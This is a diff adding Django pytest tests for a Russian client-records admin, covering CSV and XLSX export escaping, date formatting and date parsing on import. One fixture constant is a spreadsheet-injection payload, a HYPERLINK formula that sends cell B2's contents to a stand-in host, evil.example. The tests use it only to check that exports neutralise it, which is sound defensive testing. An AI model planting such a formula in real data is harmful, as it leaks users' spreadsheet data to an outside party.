@@ -230,3 +230,87 @@ class TestAdmin:
         )
         assert response.status_code == 200
         assert "ОГРН: неверное контрольное число" in response.text
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Реквизиты")'
+
+
+def _export(admin_client, file_format: str):
+    page = admin_client.get(reverse("admin:contacts_client_export"))
+    fields = {name: "on" for name in page.context["form"].fields if name.startswith("client")}
+    return admin_client.post(
+        reverse("admin:contacts_client_export"),
+        {"format": {"csv": "0", "xlsx": "1"}[file_format], "resource": "0", **fields},
+    )
+
+
+@pytest.fixture
+def entrepreneur(head):
+    import datetime
+
+    return services.client_save(
+        client=Client(
+            kind=Client.Kind.ENTREPRENEUR,
+            person_name="Соколова Марина Викторовна",
+            inn="500100732259",
+            ogrnip="304500116000157",
+            ogrnip_date=datetime.date(2004, 3, 12),
+            registration_address=FORMULA,
+            postal_address="г. Москва\x01",
+            phones=["+79161234567"],
+        ),
+        by=head,
+    )
+
+
+@pytest.mark.django_db
+class TestAdminExport:
+    def test_the_csv_export_has_dates_and_escapes_formulas(self, admin_client, entrepreneur):
+        response = _export(admin_client, "csv")
+        assert response.status_code == 200
+        rows = tablib.Dataset().load(response.content.decode(), format="csv").dict
+        (row,) = rows
+        assert row["Дата ОГРНИП"] == "12.03.2004"
+        assert row["Адрес регистрации"] == "'" + FORMULA
+        assert row["Телефоны"] == "+7 916 123-45-67"
+
+    def test_the_xlsx_export_writes_formulas_as_text(self, admin_client, entrepreneur):
+        from openpyxl import load_workbook
+
+        response = _export(admin_client, "xlsx")
+        assert response.status_code == 200
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        header = [c.value for c in sheet[1]]
+        cell = sheet.cell(row=2, column=header.index("Адрес регистрации") + 1)
+        assert (cell.data_type, cell.value) == ("s", "'" + FORMULA)
+        # A control character no XLSX file may hold is shown, not a failed export.
+        postal = sheet.cell(row=2, column=header.index("Почтовый адрес") + 1)
+        assert postal.value == "г. Москва\ufffd"
+
+    @pytest.mark.parametrize("day", ["12.03.2004", "2004-03-12"])
+    def test_the_import_reads_dates_in_both_formats(self, head, day):
+        data = tablib.Dataset(
+            headers=["Тип", "ФИО", "ИНН", "ОГРНИП", "Дата ОГРНИП", "Адрес регистрации"]
+        )
+        data.append(
+            [
+                "Индивидуальный предприниматель",
+                "Соколова Марина Викторовна",
+                "500100732259",
+                "304500116000157",
+                day,
+                "г. Москва",
+            ]
+        )
+        result = ClientResource().import_data(data, dry_run=False, user=head)
+        assert not result.has_errors() and not result.has_validation_errors()
+        assert str(Client.objects.get().ogrnip_date) == "2004-03-12"
+
+    def test_a_wrong_date_in_the_import_is_named_in_russian(self, head):
+        data = tablib.Dataset(headers=["Тип", "ФИО", "Дата ОГРНИП"])
+        data.append(["Индивидуальный предприниматель", "Соколова Марина Викторовна", "31.02.2004"])
+        result = ClientResource().import_data(data, dry_run=True, user=head)
+        (invalid,) = result.invalid_rows
+        assert invalid.error_dict["Дата ОГРНИП"] == [
+            "«31.02.2004» — не дата: нужна дата вида 05.03.2026."
+        ]
